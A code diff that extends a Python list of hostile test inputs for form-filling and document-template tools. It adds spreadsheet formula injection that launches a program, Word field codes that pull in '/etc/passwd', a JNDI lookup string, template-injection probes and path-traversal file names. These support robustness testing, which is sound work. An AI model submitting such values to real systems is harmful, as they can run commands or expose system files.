@@ -1,4 +1,4 @@
-"""Values that break naive form fillers; about 200 of them."""
+"""Values that break naive form fillers; more than 200 of them, no two alike."""
 
 CHARACTERS = [chr(code) for code in (*range(0x20), *range(0x7F, 0xA0), 0xFFFE, 0xFFFF, 0xD800, 0xDFFF)]
 MARKUP = [
@@ -70,6 +70,52 @@ BLANKS = [
     "",
 ]
 LONG = ["长" * 10_000, "W" * 10_000, "a b " * 2_500, "\n" * 200, "<" * 3_000, "{{姓名}}" * 500]
+SPREADSHEET = [
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "+86 13800000001",
+    "-2+3",
+    "'00123",
+    "{=1}",
+    "#REF!",
+    "001",
+    "9" * 400,
+    "-0.0000001",
+]
+FIELDS = [
+    '{ INCLUDETEXT "file:///etc/passwd" }',
+    "{ HYPERLINK http://example.com }",
+    "MACROBUTTON x",
+    "{{#each}}",
+    "{{/名单}}",
+    "{{>partial}}",
+    "${jndi:ldap://example.com/x}",
+    "#{1+1}",
+    "<%= 1 %>",
+    "[[姓名]]",
+    "«姓名»",
+    "%(name)s",
+    "@@1:t0@@@@0:e0@@",
+    "@@0:s0@@",
+    "@@0:x1@@",
+    "@@0:i0@@",
+    "{{照片|照片}}",
+    "{{□}}",
+    "{{名单.序号|每页15行}}",
+    "{{a}}{{b}}{{c}}",
+    "}}{{",
+    "{{{姓名}}}",
+]
+PATHS = [
+    "../../etc/passwd",
+    "C:\\Windows\\win.ini",
+    "file:///etc/passwd",
+    "\\\\server\\share",
+    "https://example.com/a?b=c&d=<e>",
+    "CON",
+    "张三\x00.docx",
+    "~$张三.docx",
+]
 WORDS = [
     "None",
     "nan",
@@ -94,7 +140,10 @@ HOSTILE = [
     *BLANKS,
     *LONG,
     *WORDS,
+    *SPREADSHEET,
+    *FIELDS,
+    *PATHS,
     *(f"{markup}{mark}" for markup, mark in zip(MARKUP, MARKS, strict=False)),
     *(f"{script}\n{mark}" for script, mark in zip(SCRIPTS, MARKS, strict=False)),
-    *(f"{blank}{script}" for blank, script in zip(BLANKS, SCRIPTS, strict=False)),
+    *(f"{blank}{script}" for blank, script in zip(filter(None, BLANKS), SCRIPTS, strict=False)),
 ]
